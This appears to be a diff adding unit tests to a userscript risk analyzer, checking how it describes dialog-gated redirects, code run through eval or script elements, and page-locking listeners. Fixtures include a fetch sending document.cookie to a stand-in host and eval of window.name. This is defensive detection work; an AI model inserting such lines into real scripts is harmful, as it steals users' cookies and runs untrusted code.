@@ -123,3 +123,82 @@ describe("two facts in one sentence", () => {
 		expect(sentencesOf("capability-pair", code)).toEqual([]);
 	});
 });
+
+describe("a question of a dialog", () => {
+	const leave = 'location.replace("https://r.stranger.test/");';
+
+	test.each([
+		["of a promise", `Swal.fire({ title: "Go?" }).then((result) => { if (result.isConfirmed) ${leave} });`],
+		["that is awaited", `(async () => { const r = await Swal.fire("Go?"); if (r.isConfirmed) { ${leave} } })();`],
+		["in a short form", `Swal.fire("Go?").then(({ isConfirmed }) => isConfirmed && ${leave.slice(0, -1)});`],
+	])("%s is said to come before", (_title, body) => {
+		expect(sentencesOf("forced-navigation", on(body))).toEqual([
+			"Takes you to r.stranger.test when you agree in a dialog.",
+		]);
+		expect(sentencesOf("leads-away", on(body))).toEqual([
+			"Takes you to r.stranger.test (location.replace), when you agree in a dialog.",
+		]);
+	});
+
+	test.each([
+		["an object of the script", `const own = { isConfirmed: true }; if (own.isConfirmed) ${leave}`],
+		[
+			"a promise without a dialog",
+			`Promise.resolve({ isConfirmed: true }).then((r) => { if (r.isConfirmed) ${leave} });`,
+		],
+		["the visitor's refusal", `Swal.fire("Go?").then((r) => { if (!r.isConfirmed) ${leave} });`],
+	])("is not %s", (_title, body) => {
+		expect(sentencesOf("forced-navigation", on(body))).toEqual(["Takes you to r.stranger.test without being asked."]);
+	});
+});
+
+describe("a function of the script that runs as text", () => {
+	const head = "function main(info) { console.log(info); }\nconst info = { script: GM_info.script };\n";
+
+	test.each([
+		["eval", 'eval("(" + main + ")(" + JSON.stringify(info) + ")");'],
+		["a template", `window.eval(${"`($"}{main.toString()})(1);${"`"});`],
+		[
+			"a script element",
+			'const code = "(" + main + ")(" + JSON.stringify(info) + ");"; const s = document.createElement("script"); s.appendChild(document.createTextNode(code)); document.head.appendChild(s);',
+		],
+		[
+			"a function's own name",
+			'(function own(again) { if (!again) window.eval("(" + own.toString() + ")(true)"); })();',
+		],
+	])("by %s is known", (_title, body) => {
+		expect(sentencesOf("unknown-code", on(head + body))).toEqual([]);
+	});
+
+	test.each([
+		["a text beside it", 'eval("(" + main + ")(" + window.name + ")");'],
+		["a text instead", "eval(window.name);"],
+		["a name that changes", 'let code = "(" + main + ")()"; code = window.name; eval(code);'],
+	])("is not %s", (_title, body) => {
+		expect(sentencesOf("unknown-code", on(head + body)).length).toBeGreaterThan(0);
+	});
+});
+
+describe("what only the skeptical run finds of a flow", () => {
+	test("is told with the doubt", () => {
+		const code = on('const go = JSON.parse("false"); if (go) fetch("https://c.stranger.test/?" + document.cookie);');
+		expect(sentencesOf("cookie-exfiltration", code)).toEqual([
+			"The site's cookies are sent to c.stranger.test by fetch, without being asked (document.cookie), unless the values that the script computes rule it out.",
+		]);
+	});
+});
+
+describe("listeners for everything", () => {
+	const stop = "const stop = (e) => { e.preventDefault(); e.stopPropagation(); };\n";
+
+	test("block the page when one place adds them", () => {
+		const body = `${stop}for (const name of ["keydown", "click", "wheel"]) document.addEventListener(name, stop, true);`;
+		expect(sentencesOf("page-lock", on(body))).toHaveLength(1);
+	});
+
+	test("do not when a function adds what it is given", () => {
+		const body = `${stop}function listen(el, events, fn) { for (const name of events.split(" ")) el.addEventListener(name, fn); }
+listen(document, "keydown", stop); listen(document, "click", stop); listen(window, "wheel", stop);`;
+		expect(sentencesOf("page-lock", on(body))).toEqual([]);
+	});
+});
